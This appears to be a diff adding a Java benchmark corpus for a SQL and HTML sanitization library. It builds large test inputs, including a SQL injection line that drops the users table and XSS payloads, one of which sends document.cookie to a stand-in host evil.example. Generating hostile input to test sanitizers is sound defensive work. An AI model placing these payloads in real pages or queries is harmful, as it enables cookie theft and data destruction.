@@ -0,0 +1,110 @@
+package com.flash.sanitization.benchmark;
+
+import java.util.ArrayList;
+import java.util.LinkedHashSet;
+import java.util.List;
+import java.util.Random;
+import java.util.Set;
+
+/**
+ * Inputs shared by the benchmarks.
+ */
+final class Corpus {
+
+    private Corpus() {
+    }
+
+    /**
+     * @param name
+     * short: a single statement with a comment and a keyword.
+     * clean: a script without anything to remove.
+     * script: a realistic script of ~100KB with comments and keywords.
+     * adversarial: ~100KB of comment markers, dashes and partial keywords.
+     */
+    static String sql(String name) {
+        return switch (name) {
+            case "short" -> "SELECT * FROM users WHERE id = 1; DROP TABLE users -- bye";
+            case "clean" -> repeat(
+                "SELECT u.id, u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100;\n",
+                100_000);
+            case "script" -> repeat(
+                """
+                /* nightly job */
+                SELECT u.id, u.name FROM users u WHERE u.active = 1; -- active users
+                UPDATE users SET last_seen = NOW() WHERE id = 42;
+                INSERT INTO audit (id, action) VALUES (1, 'login');
+                DELETE FROM sessions WHERE expires < NOW(); /* cleanup */
+                """,
+                100_000);
+            case "adversarial" -> repeat("-/-*/DR/**/OP drop- -/ *DELET /*-*/ ", 100_000);
+            default -> throw new IllegalArgumentException("Unknown corpus " + name);
+        };
+    }
+
+    /**
+     * @param name
+     * article: a realistic article of ~100KB with formatting, links and images.
+     * script: ~100KB of script tags, event handlers and javascript urls.
+     * adversarial: ~100KB of deeply nested, unclosed and malformed tags.
+     */
+    static String html(String name) {
+        return switch (name) {
+            case "article" -> repeat(
+                """
+                <div class="post"><h2>Release notes</h2>
+                <p>The <b>new</b> version is <a href="https://example.com/notes" title="notes">available</a>,
+                see the <i>changelog</i> for details.<br><img src="https://example.com/logo.png" alt="logo"></p>
+                <ul><li>Faster &amp; smaller</li><li>Fewer <code>allocations</code></li></ul></div>
+                """,
+                100_000);
+            case "script" -> repeat(
+                """
+                <p onclick="steal()">click</p><script>document.location='https://evil.example/?'+document.cookie</script>
+                <a href="javascript:alert(1)">link</a><iframe src="https://evil.example"></iframe>
+                """,
+                100_000);
+            case "adversarial" -> repeat("<div><span <b><<i>>&#x3c;<p a=\"\'\"><x></ <!-- -->", 100_000)
+                + "<div>".repeat(2_000) + "<!-- unterminated";
+            default -> throw new IllegalArgumentException("Unknown corpus " + name);
+        };
+    }
+
+    /**
+     * Distinct words of 4 to 12 letters, the same ones for the same count.
+     */
+    static List<String> words(int count) {
+        Random random = new Random(count);
+        Set<String> words = new LinkedHashSet<>();
+        while (words.size() < count) {
+            words.add(word(random, 4 + random.nextInt(9)));
+        }
+        return new ArrayList<>(words);
+    }
+
+    /**
+     * ~100KB of prose, about one in fifty words is taken from the given list.
+     */
+    static String text(List<String> words) {
+        Random random = new Random(42);
+        StringBuilder text = new StringBuilder(100_000 + 20);
+        while (text.length() < 100_000) {
+            text.append(random.nextInt(50) == 0 ?
+                words.get(random.nextInt(words.size())) :
+                word(random, 1 + random.nextInt(10)));
+            text.append(random.nextInt(15) == 0 ? ". " : " ");
+        }
+        return text.toString();
+    }
+
+    private static String word(Random random, int length) {
+        StringBuilder word = new StringBuilder(length);
+        for (int i = 0; i < length; i++) {
+            word.append((char) ('a' + random.nextInt(26)));
+        }
+        return word.toString();
+    }
+
+    private static String repeat(String unit, int length) {
+        return unit.repeat(Math.max(1, length / unit.length()));
+    }
+}